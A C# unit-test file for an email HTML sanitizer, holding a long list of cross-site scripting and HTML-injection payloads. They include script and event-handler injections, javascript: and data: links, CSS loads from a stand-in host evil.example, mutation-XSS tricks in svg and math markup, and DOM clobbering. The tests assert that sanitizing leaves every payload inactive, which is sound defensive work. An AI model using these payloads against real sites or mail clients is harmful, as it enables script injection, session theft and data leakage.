using Inbox.Mail.Html;

namespace Inbox.Mail.Tests.Html;

public sealed class MailHtmlAttackTests
{
    public static TheoryData<string> Payloads() =>
    [
        // Scripts and handlers
        "<script>steal()</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT >", "<script/x>steal()</script>", "<script\n>steal()</script\n>",
        "<scr<script>ipt>steal()</scr</script>ipt>", "<<script>steal()//<</script>", "<script>steal()", "<script><!--<script>steal()</script>",
        "<img src=x onerror=steal()>", "<img src=x OnErRoR = 'steal()'>", "<img/src='x'/onerror='steal()'>", "<img src=x:x onerror\u000C=steal()>",
        "<body onload=steal()>hello</body>", "<div onmouseover=\"steal()\">x</div>", "<p onclick=steal()//>x", "<b/onfocus=steal() autofocus tabindex=1>x",
        "<a href=x style='animation-name:x' onanimationstart=steal()>x</a>", "<details open ontoggle=steal()>x</details>", "<marquee onstart=steal()>x</marquee>",
        "<video><source onerror=steal()></video>", "<audio src=x onerror=steal()>", "<img \"\"\"><script>steal()</script>\">", "<img src=`x` onerror=steal()``>",
        // Link schemes
        "<a href=javascript:steal()>x</a>", "<a href=\" \u0001javascript:steal()\">x</a>", "<a href='java\tscript:steal()'>x</a>", "<a href='java&#10;script:steal()'>x</a>",
        "<a href='&#106;&#97;&#118;&#97;script:steal()'>x</a>", "<a href='javascript&colon;steal()'>x</a>", "<a href='JAVASCRIPT&#0000058steal()'>x</a>", "<a href='vbscript:x'>x</a>",
        "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>", "<a href='data:image/svg+xml,<svg onload=steal()>'>x</a>", "<a href='feed:javascript:steal()'>x</a>", "<a href='file:///etc/passwd'>x</a>",
        "<a href='ms-msdt:/id x'>x</a>", "<a href='blob:https://a.example/1'>x</a>", "<a href='view-source:javascript:1'>x</a>", "<a href='cid:part'>x</a>", "<a xlink:href='javascript:steal()'>x</a>",
        "<a href='\u00A0javascript:steal()'>x</a>", "<a href='\u200Bjavascript:steal()'>x</a>", "<a href='/admin/delete'>x</a>", "<a href='#x' id=x name=x>x</a>", "<a href='?delete=1' ping='//evil.example'>x</a>",
        "<area href=javascript:steal()>", "<map name=x><area href=javascript:steal()></map>",
        // Images
        "<img src=javascript:steal()>", "<img src='data:image/svg+xml;base64,PHN2Zz4='>", "<img src='data:text/html,x'>", "<img src='data:image/png,<svg onload=x>'>", "<img src='cid:\"><script>steal()</script>'>",
        "<img src='cid:../../admin'>", "<img srcset='//evil.example/x 2x'>", "<img lowsrc=javascript:steal() dynsrc=javascript:steal()>", "<picture><source srcset=//evil.example/x></picture>", "<image src=//evil.example/x onerror=steal()>",
        "<img src='/delete' usemap='#x' ismap>", "<input type=image src=//evil.example/x>", "<video poster=//evil.example/x>", "<table background=//evil.example/x><tr><td background='javascript:x'>y</table>",
        // CSS
        "<p style='background:url(javascript:steal())'>x", "<p style='background:url(//evil.example/x)'>x", "<p style='width:expression(steal())'>x", "<p style='width:e\\78pression(steal())'>x", "<p style='width:exp/**/ression(steal())'>x",
        "<p style='behavior:url(x.htc)'>x", "<p style='-moz-binding:url(x)'>x", "<p style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9'>x", "<p style='color:red;} body{display:none'>x", "<p style='@import \"//evil.example\"'>x",
        "<p style='background:image-set(\"//evil.example/x\" 1x)'>x", "<p style='background:u\\72l(//evil.example)'>x", "<p style='list-style:url(//evil.example/x)'>x", "<p style='color:var(--x)'>x", "<p style='font-family:\"x;background:url(//e.example)\"'>x",
        "<p style='content:attr(x)'>x", "<p style='margin-top:-500px'>x", "<p style='width:100px;\u0000background:url(x)'>x", "<style>body{background:url(//evil.example/x)}</style>", "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>@import '//evil.example/x.css';</style>x", "<p style=\"background:&#117;rl(//evil.example/x)\">x", "<div style=\"background-image:cross-fade(url(x),url(y))\">x",
        // Documents, frames, forms
        "<iframe src=javascript:steal()></iframe>", "<iframe srcdoc='<script>steal()</script>'></iframe>", "<object data=javascript:steal()></object>", "<embed src=javascript:steal()>", "<applet code=x></applet>", "<frameset><frame src=javascript:steal()></frameset>",
        "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<form action=//evil.example><input name=password><button formaction=javascript:steal()>x</button></form>", "<isindex action=javascript:steal()>", "<select><option>x</select>",
        "<keygen>", "<dialog open>x</dialog>", "<slot name=x>y</slot>", "<portal src=//evil.example></portal>", "<bgsound src=//evil.example/x>", "<layer src=//evil.example>", "<xml id=x><x/></xml>", "<?xml-stylesheet href='javascript:steal()'?>", "<!DOCTYPE x [<!ENTITY y 'z'>]>",
        // DOM clobbering
        "<a id=document name=cookie class=btn data-x=1>x</a>", "<img name=getElementById id=x>", "<form id=x><input name=attributes></form>", "<div hx-get=/admin hx-trigger=load data-hx-post=/x>x</div>",
        // Mutation and namespaces
        "<svg onload=steal()>", "<svg><script>steal()</script></svg>", "<svg><style><img src=x onerror=steal()></style></svg>", "<svg></p><style><a id=\"</style><img src=1 onerror=steal()>\">", "<svg><animate attributeName=href values=javascript:steal() /></svg>",
        "<svg><a xlink:href=javascript:steal()><text>x</text></a></svg>", "<svg><foreignObject><iframe src=javascript:steal()></foreignObject></svg>", "<svg><desc><img src=x onerror=steal()></desc></svg>", "<svg><title><img src=x onerror=steal()></title></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=steal()&gt;\">", "<math><mi><mglyph><svg><mtext><style><path id=\"</style><img onerror=steal() src>\">", "<math href=javascript:steal()>x</math>", "<math><annotation-xml encoding=text/html><img src=x onerror=steal()></annotation-xml></math>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=steal()>", "<noscript><p title=\"</noscript><img src=x onerror=steal()>\"></noscript>", "<noscript><style></noscript><img src=x onerror=steal()></style>", "<template><script>steal()</script></template>",
        "<template><img src=x onerror=steal()><template></template></template>", "<title><p title=\"</title><img src=x onerror=steal()>\">", "<textarea><p title=\"</textarea><img src=x onerror=steal()>\">", "<xmp><p title=\"</xmp><img src=x onerror=steal()>\">", "<plaintext><img src=x onerror=steal()>",
        "<noembed><p title=\"</noembed><img src=x onerror=steal()>\">", "<noframes><p title=\"</noframes><img src=x onerror=steal()>\">", "<iframe><p title=\"</iframe><img src=x onerror=steal()>\">", "<style><p title=\"</style><img src=x onerror=steal()>\">", "<listing>&lt;img src=x onerror=steal()&gt;</listing>",
        "<!--><img src=x onerror=steal()>-->", "<!--!><img src=x onerror=steal()>-->", "<!-- --!><img src=x onerror=steal()>", "<![CDATA[<img src=x onerror=steal()>]]>", "<svg><![CDATA[><img src=x onerror=steal()>]]></svg>", "<![if !mso]><img src=x onerror=steal()><![endif]>", "<!--[if gte IE 4]><script>steal()</script><![endif]-->",
        "<p title='&lt;img src=x onerror=steal()&gt;'>x", "&lt;script&gt;steal()&lt;/script&gt;", "<p title=\"`><img src=x onerror=steal()>\">x", "<select><style></select><img src=x onerror=steal()>", "<table><td><form><svg><style></table><img src=x onerror=steal()>", "<a><table><a href=javascript:steal()>x</a></table></a>",
        "<div></br id=x onclick=steal()></p onclick=steal()>", "<\u0000img src=x onerror=steal()>", "<im\u0000g src=x onerror=steal()>", "\uFEFF<img src=x onerror=steal()>", "<x:img src=x onerror=steal()>", "<custom-element onclick=steal() is=x>y</custom-element>", "<img src=x title=\"\uD800\" onerror=steal()>",
        "<img src=x\u2028onerror=steal()>", "<p lang=\"x\" lang=\"y\" onclick=steal()>x", "<a href=\"https://a.example\" href=javascript:steal()>x</a>", "<b <script>steal()</script>0", "<div <img src=x onerror=steal()>>", "</p <img src=x onerror=steal()>", "<a/href=javascript&#x3a;steal()>x", "<font color='red;x:expression(1)' size=javascript:1>x</font>",
    ];

    private static string Clean(string html) => MailHtml.Sanitize(html, id => "/inline/" + Uri.EscapeDataString(id)).Html;

    [Theory]
    [MemberData(nameof(Payloads))]
    public void Payload_leaves_nothing_active(string payload) => SafeMarkup.DangersIn(Clean(payload)).ShouldBeEmpty();

    [Theory]
    [MemberData(nameof(Payloads))]
    public void Payload_stays_inactive_within_other_markup(string payload)
    {
        foreach (var around in new[] { "<table><tr><td>{0}</td></tr></table>", "<p title=\"{0}\">x</p>", "<svg><p>{0}", "<math><mtext>{0}", "<noscript>{0}</noscript>", "<b><i>{0}</b></i>", "<!--{0}-->{0}", "<select>{0}</select>" })
            SafeMarkup.DangersIn(Clean(around.Replace("{0}", payload, StringComparison.Ordinal))).ShouldBeEmpty(around);
    }

    [Theory]
    [MemberData(nameof(Payloads))]
    public void Clean_markup_is_not_changed_by_cleaning_it_again(string payload)
    {
        var once = MailHtml.Sanitize(payload).Html;
        MailHtml.Sanitize(once).Html.ShouldBe(once);
    }
}
